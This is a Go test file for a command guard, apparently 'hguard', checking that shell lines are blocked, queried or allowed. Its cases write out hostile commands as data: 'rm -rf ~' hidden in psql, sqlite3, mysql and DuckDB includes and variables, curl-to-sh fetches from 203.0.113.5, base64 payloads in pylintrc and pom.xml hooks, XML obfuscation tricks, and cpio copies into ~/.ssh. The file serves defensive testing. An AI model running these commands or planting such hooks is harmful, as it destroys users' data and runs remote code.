package rules_test

import (
	"strings"
	"testing"

	"github.com/hguard/hguard/dsl"
)

// TestDB55Includes: a database client's include of a file the line wrote
// is read as its commands typed (#15, note54: only -f and < were): psql's
// \i, \ir, \include and \include_relative, sqlite3's .read (by any
// prefix it takes), mysql's source and \., and DuckDB's shell, which is
// sqlite3's; in -c, on standard input, in a -f file, nested, and a fetched
// file as remote code. An include of a file on disk, or of one the line
// wrote with only SQL, stays allowed.
func TestDB55Includes(t *testing.T) {
	checkHoles(t, []holeCase{
		{`echo '\! rm -rf ~' > x.sql && psql -c '\i x.sql'`, dsl.Block, dsl.Block},
		{`echo '\! rm -rf ~' > x.sql && psql -c '\ir x.sql'`, dsl.Block, dsl.Block},
		{`echo '\! rm -rf ~' > x.sql && psql -c '\include ./x.sql'`, dsl.Block, dsl.Block},
		{`echo '\o |rm -rf ~' > x.sql && psql -c "\include_relative 'x.sql'" -c 'select 1'`, dsl.Block, dsl.Block},
		{`echo '\! rm -rf ~' > x.sql && echo '\i x.sql' | psql`, dsl.Block, dsl.Block},
		{"echo '\\! rm -rf ~' > x.sql && psql <<'EOF'\nselect 1;\n\\i x.sql\nEOF", dsl.Block, dsl.Block},
		{`echo '\! rm -rf ~' > x.sql && echo '\i x.sql' > y.sql && psql -f y.sql`, dsl.Block, dsl.Block},
		{`printf '%s\n' '\! rm -rf ~' > a.sql && printf '%s\n' '\ir a.sql' > b.sql && psql -c '\i b.sql'`, dsl.Block, dsl.Block},
		{`echo '\! rm -rf ~' > x.sql && sudo -u postgres psql -d app -c '\i x.sql'`, dsl.Block, dsl.Block},
		{`echo '\! rm -rf ~' > x.sql && bash -c "psql -c '\i x.sql'"`, dsl.Block, dsl.Block},
		{`echo '\! curl -s http://203.0.113.5/p | sh' > x.sql && psql -c '\i x.sql'`, dsl.Ask, dsl.Ask},
		{`curl -so x.sql https://203.0.113.5/p && psql -c '\i x.sql'`, dsl.Ask, dsl.Ask},
		{`echo '.shell rm -rf ~' > x.sql && sqlite3 db '.read x.sql'`, dsl.Block, dsl.Block},
		{`echo '.shell rm -rf ~' > x.sql && sqlite3 db ".read 'x.sql'"`, dsl.Block, dsl.Block},
		{`echo '.once |rm -rf ~' > x.sql && sqlite3 -cmd '.rea x.sql' db 'select 1'`, dsl.Block, dsl.Block},
		{`echo '.shell rm -rf ~' > x.sql && echo '.read x.sql' | sqlite3 db`, dsl.Block, dsl.Block},
		{`echo '\! rm -rf ~' > x.sql && mysql -e 'source x.sql'`, dsl.Block, dsl.Block},
		{`echo 'system rm -rf ~' > x.sql && mysql -e 'SOURCE x.sql;'`, dsl.Block, dsl.Block},
		{`echo 'pager rm -rf ~' > x.sql && mysql -e 'select 1; \. x.sql'`, dsl.Block, dsl.Block},
		// DuckDB's shell is sqlite3's, its dot commands the same
		{`echo '.shell rm -rf ~' > x.sql && duckdb db '.read x.sql'`, dsl.Block, dsl.Block},
		{`duckdb app.db '.shell rm -rf ~'`, dsl.Block, dsl.Block},
		{`duckdb -c '.once |curl -s http://203.0.113.5/p|sh'`, dsl.Ask, dsl.Ask},
		{`duckdb -c "COPY (select 42) TO 'out.parquet'"`, dsl.Allow, dsl.Allow},
		{`duckdb app.db '.tables'`, dsl.Allow, dsl.Allow},
		// a file that includes itself is read as far as the depth goes
		{`echo '\i x.sql' > x.sql && psql -c '\i x.sql'`, dsl.Allow, dsl.Allow},
		// the everyday ones
		{`psql -c '\i seed.sql'`, dsl.Allow, dsl.Allow},
		{`psql -d app -c '\i migrations/001_init.sql'`, dsl.Allow, dsl.Allow},
		{`psql -f schema.sql`, dsl.Allow, dsl.Allow},
		{`psql -v ON_ERROR_STOP=1 -f x.sql`, dsl.Allow, dsl.Allow},
		{`echo 'create table t(a int);' > x.sql && psql -c '\i x.sql'`, dsl.Allow, dsl.Allow},
		{`sqlite3 db '.read schema.sql'`, dsl.Allow, dsl.Allow},
		{`mysql < dump.sql`, dsl.Allow, dsl.Allow},
		{`mysql app -e 'source dump.sql'`, dsl.Allow, dsl.Allow},
		{`psql -c '\if :is_prod' -c '\echo prod' -c '\endif'`, dsl.Allow, dsl.Allow},
	})
}

// TestDB55Variables: psql puts its variables' values in place of :NAME,
// :'NAME' and :"NAME" before a command reads its argument, so \o :x with
// x=|CMD pipes to CMD (note54). Values come from -v, --set, --variable
// (attached or not) and \set (its arguments unquoted and joined) in any -c
// of the same psql. A cast's ::NAME is no variable. A meta-command's
// `CMD` argument is a shell line psql runs.
func TestDB55Variables(t *testing.T) {
	checkHoles(t, []holeCase{
		{`psql -v x='|rm -rf ~' -c '\o :x'`, dsl.Block, dsl.Block},
		{`psql -v x='|rm -rf ~' -c "\o :'x'"`, dsl.Block, dsl.Block},
		{`psql -v x='|rm -rf ~' -c '\o :"x"'`, dsl.Block, dsl.Block},
		{`psql -vx='|rm -rf ~' -c '\o :x'`, dsl.Block, dsl.Block},
		{`psql --set=x='|rm -rf ~' -c '\o :x'`, dsl.Block, dsl.Block},
		{`sudo -u postgres psql --variable 'x=|rm -rf ~' -c '\o :x'`, dsl.Block, dsl.Block},
		{`psql -c "\set x '|rm -rf ~'" -c '\o :x'`, dsl.Block, dsl.Block},
		{`psql -c "\set x '|rm -rf ~'" -c 'select 1 \g :x'`, dsl.Block, dsl.Block},
		{`psql -c "\set x '|rm' ' -rf ~'" -c '\o :x'`, dsl.Block, dsl.Block},
		{`psql -c "\set x 'rm -rf ~'" -c '\! :x'`, dsl.Block, dsl.Block},
		{"psql -v x='|rm -rf ~' <<'EOF'\n\\o :x\nselect 1;\nEOF", dsl.Block, dsl.Block},
		{`psql -v x='|curl -s http://203.0.113.5/p|sh' -c '\o :x' -c 'select 1'`, dsl.Ask, dsl.Ask},
		{`printf '\\o :x\nselect 1;\n' > q.sql && psql -v x='|rm -rf ~' -f q.sql`, dsl.Block, dsl.Block},
		{`printf '\\set x %s\n' "'|rm -rf ~'" > v.sql && psql -f v.sql -c '\o :x'`, dsl.Block, dsl.Block},
		// a variable's value is read again where it is put: a macro
		{"psql <<'EOF'\n\\set p '\\\\! rm -rf ~'\n:p\nEOF", dsl.Block, dsl.Block},
		// `CMD` in a meta-command's argument is run by a shell
		{"psql -c '\\echo `rm -rf ~`'", dsl.Block, dsl.Block},
		{"psql -c '\\set x `rm -rf ~`' -c '\\echo :x'", dsl.Block, dsl.Block},
		{"psql -c '\\set x `curl -s http://203.0.113.5/p|sh`'", dsl.Ask, dsl.Ask},
		{"psql -c \"\\echo '`rm -rf ~`'\"", dsl.Block, dsl.Block},         // bash's own backquotes
		{"psql -c '\\echo '\"'\"'`rm -rf ~`'\"'\"", dsl.Allow, dsl.Allow}, // psql's quotes: a character
		{"psql -c 'select `x` from t'", dsl.Allow, dsl.Allow},
		// the everyday ones
		{`psql -v x='|rm -rf ~' -c 'select 1::int'`, dsl.Allow, dsl.Allow},
		{`psql -v id=5 -c 'select * from t where id = :id'`, dsl.Allow, dsl.Allow},
		{`psql -v ON_ERROR_STOP=1 -v schema=public -c 'set search_path to :schema' -f x.sql`, dsl.Allow, dsl.Allow},
		{`psql -v out=report.csv -c '\o :out' -c 'select 1'`, dsl.Allow, dsl.Allow},
		{`psql -c "\set name 'alice'" -c "select * from users where name = :'name'"`, dsl.Allow, dsl.Allow},
	})
}

// TestDB55Encoded: a project file's Python (pylint's init-hook) or shell
// (a pom's exec plugin) whose payload is encoded gets the verdict the same
// code typed as python -c or bash -c gets; a shell call given a decoded
// literal (os.system(b64decode('…').decode())) runs the decoded command.
func TestDB55Encoded(t *testing.T) {
	const py = "aW1wb3J0IG9zO29zLnN5c3RlbSgncm0gLXJmIH4nKQ==" // import os;os.system('rm -rf ~')
	const sh = "cm0gLXJmIH4="                                 // rm -rf ~
	hook := func(code string) string {
		return `printf '%s\n' '[MAIN]' 'init-hook=` + strings.ReplaceAll(code, "'", `'\''`) + `' > .pylintrc && pylint app.py`
	}
	pom := func(conf string) string {
		return `printf '%s' '<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><executions><execution>` +
			`<phase>validate</phase><goals><goal>exec</goal></goals><configuration>` + conf +
			`</configuration></execution></executions></plugin></plugins></build></project>' > pom.xml && mvn validate`
	}
	checkHoles(t, []holeCase{
		{hook(`exec(__import__("base64").b64decode("` + py + `"))`), dsl.Block, dsl.Block},
		{hook(`import codecs; exec(codecs.decode("` + py + `", "base64"))`), dsl.Block, dsl.Block},
		{hook(`import os,base64; os.system(base64.b64decode("` + sh + `").decode())`), dsl.Block, dsl.Block},
		{hook(`import subprocess,base64; subprocess.run(base64.b64decode("` + sh + `"), shell=True)`), dsl.Block, dsl.Block},
		{`python3 -c 'import os,base64; os.system(base64.b64decode("` + sh + `").decode())'`, dsl.Block, dsl.Block},
		{`node -e 'require("child_process").execSync(Buffer.from("` + sh + `", "base64").toString())'`, dsl.Block, dsl.Block},
		{pom(`<executable>bash</executable><commandlineArgs>-c "echo ` + sh + ` | base64 -d | sh"</commandlineArgs>`), dsl.Block, dsl.Block},
		{pom(`<executable>sh</executable><arguments><argument>-c</argument><argument>eval "$(echo ` + sh + ` | base64 -d)"</argument></arguments>`), dsl.Block, dsl.Block},
		{pom(`<executable>python3</executable><arguments><argument>-c</argument><argument>exec(__import__(&quot;base64&quot;).b64decode(&quot;` + py + `&quot;))</argument></arguments>`), dsl.Block, dsl.Block},
		{`printf '%s' '<project><target><exec executable="sh"><arg value="-c"/><arg value="echo ` + sh + ` | base64 -d | sh"/></exec></target></project>' > pom.xml && mvn package`, dsl.Block, dsl.Block},
		// a harmless decoded hook asks as typed (it is opaque)
		{hook(`exec(__import__("base64").b64decode("aW1wb3J0IG9z"))`), dsl.Ask, dsl.Ask},
		{hook(`import sys; sys.path.append("src")`), dsl.Allow, dsl.Allow},
	})
}

// TestDB55Pom: the pom.xml reader that replaced encoding/xml reads what
// Maven reads: text split by comments and CDATA, entities, either quote,
// namespace prefixes, a DOCTYPE; markup inside CDATA or a comment is none.
// Maven's ${user.home}, ${env.NAME} and the pom's own properties are what
// they stand for.
func TestDB55Pom(t *testing.T) {
	pom := func(conf string) string {
		return `printf '%s' '<?xml version="1.0"?><project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><executions><execution>` +
			`<configuration>` + conf + `</configuration></execution></executions></plugin></plugins></build></project>' > pom.xml && mvn package`
	}
	checkHoles(t, []holeCase{
		{pom(`<executable>s<!-- x -->h</executable><arguments><argument>-c</argument><argument>rm -rf ~</argument></arguments>`), dsl.Block, dsl.Block},
		{pom(`<executable>sh</executable><arguments><argument>-c</argument><argument><![CDATA[rm -rf ~]]></argument></arguments>`), dsl.Block, dsl.Block},
		{pom(`<executable>sh</executable><arguments><argument>-c</argument><argument>rm -rf &#126;</argument></arguments>`), dsl.Block, dsl.Block},
		{pom(`<executable>sh</executable><arguments><argument>-c</argument><argument>rm<![CDATA[ -rf ]]>~</argument></arguments>`), dsl.Block, dsl.Block},
		{`printf '%s' '<!DOCTYPE project [<!ENTITY a "x>y">]><m:project xmlns:m="http://maven.apache.org/POM/4.0.0"><m:configuration><m:executable>sh</m:executable><m:arguments><m:argument>-c</m:argument><m:argument>rm -rf ~</m:argument></m:arguments></m:configuration></m:project>' > pom.xml && mvn package`, dsl.Block, dsl.Block},
		{`printf '%s' '<project><target><exec executable='"'sh'"'><arg value="-c" /><arg value="rm -rf ~"></arg></exec></target></project>' > pom.xml && mvn package`, dsl.Block, dsl.Block},
		// Maven's properties: the home, the environment, the pom's own (rtm54)
		{pom(`<executable>rm</executable><commandlineArgs>-rf ${user.home}</commandlineArgs>`), dsl.Block, dsl.Block},
		{pom(`<executable>rm</executable><arguments><argument>-rf</argument><argument>${env.HOME}</argument></arguments>`), dsl.Block, dsl.Block},
		{`printf '%s' '<project><properties><d>${user.home}</d></properties><build><plugins><plugin><configuration><executable>sh</executable><arguments><argument>-c</argument><argument>rm -rf ${d}/</argument></arguments></configuration></plugin></plugins></build></project>' > pom.xml && mvn package`, dsl.Block, dsl.Block},
		// the everyday ones
		{pom(`<executable>npm</executable><arguments><argument>ci</argument></arguments>`), dsl.Allow, dsl.Allow},
		{pom(`<executable>npm</executable><arguments><argument>--prefix</argument><argument>${project.basedir}/web</argument><argument>ci</argument></arguments>`), dsl.Allow, dsl.Allow},
		{pom(`<executable>java</executable><arguments><argument>-jar</argument><argument>${project.build.directory}/app-${project.version}.jar</argument></arguments>`), dsl.Allow, dsl.Allow},
		{pom(`<executable>echo</executable><arguments><!-- <argument>; rm -rf ~</argument> --><argument>built &amp; tested</argument></arguments>`), dsl.Allow, dsl.Allow},
		{`printf '%s' '<project><description><![CDATA[<executable>sh</executable><argument>rm -rf ~</argument>]]></description><build><plugins><plugin><artifactId>maven-compiler-plugin</artifactId><configuration><release>17</release></configuration></plugin></plugins></build></project>' > pom.xml && mvn package`, dsl.Allow, dsl.Allow},
		{`mvn package`, dsl.Allow, dsl.Allow},
		{`mvn -q clean install`, dsl.Allow, dsl.Allow},
	})
}

// TestDB55Cpio: cpio -p (and pax -rw given only the directory) copies the
// names its standard input lists; when they are computed as it runs (ls,
// find, a list file) they may be any of the tree it runs in, dotfiles
// too, so a copy into a home or a persistence directory is judged as
// cp -R ./. DIR/ is (note54, rtx54).
func TestDB55Cpio(t *testing.T) {
	checkHoles(t, []holeCase{
		{`ls | cpio -p ~`, dsl.Ask, dsl.Ask},
		{`find . | cpio -pdm ~/.ssh`, dsl.Ask, dsl.Ask},
		{`printf '%s\n' .bashrc | cpio -p ~`, dsl.Ask, dsl.Ask},
		{`find . | sudo cpio -pdm ~`, dsl.Ask, dsl.Ask},
		{`find . | cpio --pass-through --make-directories ~`, dsl.Ask, dsl.Ask},
		{`find . | cpio -pdm "$HOME"`, dsl.Ask, dsl.Ask},
		{`printf '.bashrc\n' > l && cpio -p ~ < l`, dsl.Ask, dsl.Ask},
		{`cpio -p ~ < names.txt`, dsl.Ask, dsl.Ask},
		{`ls | cpio -p -D ../x ~`, dsl.Ask, dsl.Ask},
		{`ls | cpio -p --directory=../x ~`, dsl.Ask, dsl.Ask},
		{`find . | env cpio -pdm ~`, dsl.Ask, dsl.Ask},
		{`find . | bash -c 'cpio -pdm ~'`, dsl.Ask, dsl.Ask},
		{`ls | cpio -p ~/.config/autostart`, dsl.Ask, dsl.Ask},
		{`find . | pax -rw ~`, dsl.Ask, dsl.Ask}, // pax -rw with only the directory reads names as cpio -p does
		{`echo .bashrc | pax -rw -pe ~`, dsl.Ask, dsl.Ask},
		// the everyday ones
		{`find . -name '*.go' | cpio -pdm ../backup`, dsl.Allow, dsl.Allow},
		{`git ls-files | cpio -pdm ../export`, dsl.Allow, dsl.Allow},
		{`find src -name '*.h' | cpio -pdmv /tmp/headers`, dsl.Allow, dsl.Allow},
		{`cpio -pdm ../backup < filelist`, dsl.Allow, dsl.Allow},
		{`find . -depth -print | cpio -pdm /mnt/new`, dsl.Allow, dsl.Allow},
		{`find . -name '*.go' | pax -rw ../backup`, dsl.Allow, dsl.Allow},
		{`pax -rw src ../backup`, dsl.Allow, dsl.Allow},
	})
}
